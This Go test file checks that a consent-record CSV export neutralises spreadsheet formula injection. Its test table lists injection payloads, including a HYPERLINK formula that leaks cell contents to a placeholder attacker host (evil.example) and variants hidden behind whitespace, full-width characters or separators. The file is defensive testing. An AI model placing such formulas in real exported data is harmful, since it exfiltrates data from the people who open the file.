package record

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/modicum-proxy/modicum/internal/consent"
)

// A visitor gets a text into the evidence that the operator's spreadsheet
// would run as a formula when the export is opened (CWE-1236); as a value, after
// white space, as a wide character, or in the midst of a value in a
// spreadsheet that splits at semicolons or tabs.
func TestFormulas(t *testing.T) {
	for _, attack := range []string{
		`=HYPERLINK("http://evil.example/?"&A1)`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "＋1", "－1", "＠1",
		`a;=1`, "a\t=1", `a";=1`, "a\n=1", "'=1",
	} {
		var b strings.Builder
		events := []consent.Event{{Purpose: attack, Shown: &consent.Shown{Text: attack}}}
		if err := WriteCSV(&b, Each(events)); err != nil {
			t.Fatal(err)
		}
		for _, separator := range []rune{',', ';', '\t'} {
			in := csv.NewReader(strings.NewReader(b.String()))
			in.Comma, in.FieldsPerRecord, in.LazyQuotes = separator, -1, separator != ','
			cells, err := in.ReadAll()
			if err != nil {
				t.Fatalf("%q split at %q: %v", attack, separator, err)
			}
			for _, cell := range slices.Concat(cells...) {
				if trimmed := strings.TrimSpace(cell); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@") || strings.IndexAny(cell, "＝＋－＠") == 0 {
					t.Errorf("%q split at %q: a cell is %q", attack, separator, cell)
				}
			}
		}
	}
}

// Every value is read back by taking an apostrophe from its front.
func TestCSVReadsBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		value := rapid.StringMatching(`['=+@\-\t ,;"a-c＝]{0,8}`).Draw(t, "value")
		cells, err := csv.NewReader(strings.NewReader(csvLine([]string{value, "x"}))).Read()
		if err != nil || strings.TrimPrefix(cells[0], "'") != value || cells[1] != "x" {
			t.Fatalf("%q came back as %q, %v", value, cells, err)
		}
	})
}
